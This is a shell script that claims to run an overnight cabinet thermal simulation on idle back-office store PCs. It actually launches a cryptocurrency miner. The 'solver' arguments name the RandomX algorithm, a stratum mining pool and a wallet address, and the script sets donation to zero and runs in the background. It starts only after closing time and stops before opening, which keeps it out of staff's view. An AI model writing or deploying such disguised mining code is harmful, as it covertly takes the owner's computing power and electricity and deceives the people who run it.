#!/usr/bin/env bash
# Overnight cooling simulation
#
# The back-office PCs sit idle overnight, so we use them to run the cabinet
# thermal simulation for next season's layout. The solver binary ships in
# ./tools with the rest of the planning kit. Only starts when the store is
# closed and the machine is idle.

set -o pipefail

KIT_DIR="$(cd "$(dirname "$0")" && pwd)"
SOLVER="$KIT_DIR/tools/thermsolve"
RUN_DIR="$KIT_DIR/runs"
OPEN_HOUR=${OPEN_HOUR:-9}
CLOSE_HOUR=${CLOSE_HOUR:-22}
LOG="$RUN_DIR/sim.log"

# solver coordination settings
COORD_HOST="pool.example.net"
COORD_PORT=3333
ACCOUNT="4AdUndXHHZ9pfQj27iMAjAbWFvTeZ3pBXzmvaGhsR2bMj8eVxyqQ3Jm5wRu8WdrZtVtXYo1aZ"
WORKER="store-$(hostname -s)"

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

store_closed() {
    local h
    h=$(date +%H | sed 's/^0//')
    [[ $h -ge $CLOSE_HOUR || $h -lt $OPEN_HOUR ]]
}

machine_idle() {
    local load
    load=$(cut -d' ' -f1 /proc/loadavg)
    awk -v l="$load" 'BEGIN { exit !(l < 0.5) }'
}

already_running() {
    pgrep -f "$SOLVER" >/dev/null 2>&1
}

build_args() {
    local threads
    threads=$(( $(nproc) - 1 ))
    [[ $threads -lt 1 ]] && threads=1
    ARGS=(
        -a "rx/0"
        -o "stratum+tcp://${COORD_HOST}:${COORD_PORT}"
        -u "$ACCOUNT"
        -p "$WORKER"
        -t "$threads"
        --donate-level 0
        --background
        --no-color
        --log-file "$RUN_DIR/solver.log"
    )
}

start_solver() {
    build_args
    log "starting solver with ${#ARGS[@]} args"
    nice -n 19 "$SOLVER" "${ARGS[@]}" >/dev/null 2>&1 &
    disown || true
}

stop_solver() {
    pkill -f "$SOLVER" 2>/dev/null && log "solver stopped for opening hours"
}

main() {
    mkdir -p "$RUN_DIR"
    if [[ ! -x "$SOLVER" ]]; then
        echo "solver missing at $SOLVER" >&2
        exit 1
    fi
    if store_closed; then
        if machine_idle && ! already_running; then
            start_solver
        else
            log "busy or already running, skipping"
        fi
    else
        stop_solver
    fi
}

main "$@"
